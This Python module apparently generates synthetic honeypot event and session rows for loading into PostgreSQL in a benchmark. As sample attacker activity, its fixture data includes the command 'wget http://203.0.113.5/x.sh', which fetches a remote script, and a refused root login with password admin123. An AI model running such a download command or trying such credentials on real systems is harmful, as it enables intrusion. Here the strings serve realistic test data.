"""A year of events as rows for PostgreSQL's COPY: the same number always gives the same row. Pure."""

import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta
from itertools import islice

from bench.traffic import STEPS, uuid7
from sensor_wire.v1.event import EventKind

SPAN = timedelta(days=365)
SERVICES = ("cowrie", "recon", "web", "rdp", "conpot", "smb", "ftp", "mail")
PORTS = (22, 445, 80, 3389, 102, 139, 21, 25)
SOURCES = 50_000
LINES = 2000
PER_SESSION = len(STEPS)
FIRST_SESSION = 1_000_000_000
"""Numbers of sessions begin here, out of the way of those that the server makes."""
EVENT_COLUMNS = (
    *("sensor_id", "division_id", "session_id", "uuid", "time", "received_at", "service", "source_ip", "source_port"),
    *("destination_ip", "destination_port", "protocol", "kind", "severity", "summary", "details", "packets"),
    "truncated",
)
SESSION_COLUMNS = (
    *("id", "sensor_id", "division_id", "session", "service", "first_time", "last_time", "events", "kind", "severity"),
    *("protocol", "source_ip", "source_port", "destination_ip", "destination_port", "summary", "summary_rank"),
    *("summary_time", "shelf", "status", "comment"),
)
_COMMAND = "Command: wget http://203.0.113.5/x.sh"
_SUMMARIES = {
    EventKind.CONNECTION: "Connection",
    EventKind.LOGIN: "Login as root with password admin123 refused",
    EventKind.COMMAND: _COMMAND,
    EventKind.CLOSED: "Connection closed after 12 s",
}
_STEPS = tuple((kind.value, _SUMMARIES[kind]) for kind in STEPS)


@dataclass(frozen=True)
class History:
    """So many events of some sensors, evenly over the year before `end`, five to a session.

    Attributes:
        sensors: their numbers.
        division: theirs.
        count: events in all.
        end: the moment after the last one.
    """

    sensors: Sequence[int]
    division: int
    count: int
    end: datetime

    def event(self, number: int) -> str:
        """One line of the table of events, number 0 being the oldest."""
        session, step = divmod(number, PER_SESSION)
        sensor, service, port, source = self._of(session)
        moment = self._moment(number)
        kind, summary = _STEPS[step]
        details = [{"time": moment, "kind": kind, "data": _DATA}] if kind in {"login", "command"} else []
        return (
            f"{sensor}\t{self.division}\t{FIRST_SESSION + session}\t{uuid7()}\t{moment}\t{moment}\t{service}\t"
            f"{source}\t50522\t192.0.2.10\t{port}\ttcp\t{kind}\t"
            f"{session % 5}\t{summary}\t{_escaped(json.dumps(details))}\t[]\tf\n"
        )

    def session(self, number: int) -> str:
        """The line of the table of sessions that the events of this session come to."""
        sensor, service, port, source = self._of(number)
        first, last = self._moment(number * PER_SESSION), self._moment(number * PER_SESSION + PER_SESSION - 1)
        return (
            f"{FIRST_SESSION + number}\t{sensor}\t{self.division}\ts-{number}\t{service}\t{first}\t{last}\t"
            f"{PER_SESSION}\tcommand\t{number % 5}\ttcp\t{source}\t"
            f"50522\t192.0.2.10\t{port}\t{_COMMAND}\t{number % 5 * 9 + 6}\t{last}\t0\tnew\t\n"
        )

    def source(self, number: int) -> str:
        """Where session `number` came from, as the database keeps addresses: few come often, many seldom."""
        index = (number * 2_654_435_761 % SOURCES) ** 2 // SOURCES
        return rf"\\x00000000000000000000ffff{(198 << 24) + (18 << 16) + index:08x}"

    def _of(self, session: int) -> tuple[int, str, int, str]:
        which = session * 7919 % 8
        return self.sensors[session * 104_729 % len(self.sensors)], SERVICES[which], PORTS[which], self.source(session)

    def _moment(self, number: int) -> str:
        return (self.end - SPAN + SPAN * (number / self.count)).isoformat()


def chunks(line: Callable[[int], str], numbers: range) -> Iterator[str]:
    """The lines of these numbers, some thousands together."""
    lines = map(line, numbers)
    while chunk := "".join(islice(lines, LINES)):
        yield chunk


def _escaped(text: str) -> str:
    return text.replace("\\", "\\\\")


_DATA = json.dumps({"username": "root", "password": "admin123", "success": False})
